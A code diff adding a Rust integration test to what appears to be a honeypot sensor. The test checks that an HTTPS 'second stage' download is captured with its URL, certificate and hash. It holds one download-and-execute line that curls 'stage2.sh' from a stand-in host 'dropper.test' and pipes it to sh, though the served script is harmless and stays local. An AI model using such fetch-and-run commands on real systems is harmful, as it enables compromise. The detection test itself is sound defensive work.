@@ -4,6 +4,7 @@
 //! Nothing public is ever contacted: upstream is allowed to loopback only.
 
 use std::os::unix::fs::PermissionsExt;
+use std::process::Command;
 
 use hermes_core::address_block::AddressBlock;
 use hermes_core::config::EgressMode;
@@ -170,4 +171,189 @@ async fn egress_https_the_ca_adds_little_to_a_box_start() {
     let added = medians[1].saturating_sub(medians[0]);
     eprintln!("the CA adds {added} ms (median)");
     assert!(added < 1000, "the CA adds {added} ms to a box's start");
+}
+
+/// Runs openssl in `dir`; panics with its error when it fails.
+fn openssl(dir: &std::path::Path, args: &[&str]) -> Vec<u8> {
+    let out = Command::new("openssl")
+        .args(args)
+        .current_dir(dir)
+        .output()
+        .expect("openssl");
+    assert!(
+        out.status.success(),
+        "openssl {args:?}: {}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    out.stdout
+}
+
+/// The host's first global IPv4 address: the test's "internet" listens there (a
+/// packet to it never leaves the machine), and the box reaches it through Hermes.
+fn host_address() -> Option<std::net::Ipv4Addr> {
+    let out = Command::new("ip")
+        .args(["-4", "-o", "addr", "show", "scope", "global"])
+        .output()
+        .ok()?;
+    String::from_utf8_lossy(&out.stdout)
+        .lines()
+        .filter_map(|line| {
+            line.split_whitespace()
+                .nth(3)?
+                .split('/')
+                .next()?
+                .parse()
+                .ok()
+        })
+        .find(|ip: &std::net::Ipv4Addr| {
+            !(ip.octets()[0] == 10 && ip.octets()[1] == 0 && ip.octets()[2] == 2)
+        })
+}
+
+/// An `openssl s_server -WWW` (its own test CA) stopped when dropped.
+struct WebServer(std::process::Child);
+
+impl Drop for WebServer {
+    fn drop(&mut self) {
+        let _ = self.0.kill();
+        let _ = self.0.wait();
+    }
+}
+
+/// A box downloads a second stage over HTTPS with curl (no -k: it trusts the
+/// sensor's CA) and runs it: the output reaches the client, the body is in the store
+/// with its sha256, and the event has the URL, the SNI and the upstream server's
+/// certificate, verified against the test's CA given as `egress.tls.extra_roots`.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn egress_https_a_second_stage_over_https_is_captured_from_a_real_box() {
+    require_docker!();
+    let Some(address) = host_address() else {
+        panic!("no global IPv4 address on this host for the test's web server");
+    };
+    let web = tempfile::tempdir().expect("dir");
+    let dir = web.path();
+    openssl(
+        dir,
+        &[
+            "req",
+            "-x509",
+            "-newkey",
+            "ec",
+            "-pkeyopt",
+            "ec_paramgen_curve:P-256",
+            "-nodes",
+            "-days",
+            "2",
+            "-subj",
+            "/CN=Test Web Root",
+            "-keyout",
+            "ca.key",
+            "-out",
+            "ca.pem",
+        ],
+    );
+    openssl(
+        dir,
+        &[
+            "req",
+            "-x509",
+            "-newkey",
+            "ec",
+            "-pkeyopt",
+            "ec_paramgen_curve:P-256",
+            "-nodes",
+            "-days",
+            "2",
+            "-subj",
+            "/CN=dropper.test",
+            "-addext",
+            "subjectAltName=DNS:dropper.test",
+            "-addext",
+            "basicConstraints=critical,CA:FALSE",
+            "-CA",
+            "ca.pem",
+            "-CAkey",
+            "ca.key",
+            "-keyout",
+            "leaf.key",
+            "-out",
+            "leaf.pem",
+        ],
+    );
+    let leaf_der = openssl(dir, &["x509", "-in", "leaf.pem", "-outform", "DER"]);
+    let script = b"#!/bin/sh\necho second stage ran as $(id -un)\n";
+    std::fs::write(dir.join("stage2.sh"), script).expect("script");
+    let port = std::net::TcpListener::bind((address, 0))
+        .expect("a free port")
+        .local_addr()
+        .expect("port")
+        .port();
+    let accept = format!("{address}:{port}");
+    let _server = WebServer(
+        Command::new("openssl")
+            .args(["s_server", "-quiet", "-WWW", "-accept", &accept])
+            .args(["-cert", "leaf.pem", "-key", "leaf.key"])
+            .current_dir(dir)
+            .stdout(std::process::Stdio::null())
+            .stderr(std::process::Stdio::null())
+            .spawn()
+            .expect("openssl s_server"),
+    );
+    let roots = dir.join("ca.pem");
+    let allow = format!("{address}/32");
+    let hermes = Hermes::start(Options::default().configure(move |c| {
+        c.egress.mode = EgressMode::Fetch;
+        c.capture.enabled = true;
+        c.egress.upstream_allow = vec![AddressBlock::parse(&allow).expect("block")];
+        c.egress.upstream_ports.push(port);
+        c.egress.dns.static_only = true;
+        c.egress.tls.extra_roots = Some(roots.clone());
+    }));
+    let (_client, mut shell) = crate::client::root_shell(hermes.port).await;
+    let out = run(
+        &mut shell,
+        &format!(
+            "curl -sS --max-time 20 --resolve dropper.test:{port}:{address} -o /tmp/stage2.sh https://dropper.test:{port}/stage2.sh && sh /tmp/stage2.sh"
+        ),
+    )
+    .await;
+    assert_eq!(
+        out,
+        ["second stage ran as root"],
+        "{out:?}\n{}",
+        hermes.output()
+    );
+
+    // The fetch's event (the file curl wrote in the box is captured too, later,
+    // with its `destfile`).
+    let events = hermes.wait_for_events("the fetch's download event", |events| {
+        events
+            .iter()
+            .any(|e| e["eventid"] == "cowrie.session.file_download" && e.get("url").is_some())
+    });
+    let event = events
+        .into_iter()
+        .find(|e| e["eventid"] == "cowrie.session.file_download" && e.get("url").is_some())
+        .expect("the fetch's event");
+    let sha = crate::harness::sha256_hex(script);
+    assert_eq!(
+        event["url"],
+        format!("https://dropper.test:{port}/stage2.sh")
+    );
+    assert_eq!(event["shasum"], sha.as_str());
+    assert_eq!(event["sni"], "dropper.test");
+    assert_eq!(event["upstream"], accept.as_str());
+    assert_eq!(event["upstream_cert_subject"], "CN=dropper.test");
+    assert_eq!(event["upstream_cert_issuer"], "CN=Test Web Root");
+    assert_eq!(
+        event["upstream_cert_sha256"],
+        crate::harness::sha256_hex(&leaf_der).as_str()
+    );
+    let stored = std::path::PathBuf::from(event["outfile"].as_str().expect("outfile"));
+    assert!(
+        stored.starts_with(hermes.downloads()),
+        "{}",
+        stored.display()
+    );
+    assert_eq!(crate::harness::sha256_file(&stored), sha);
 }
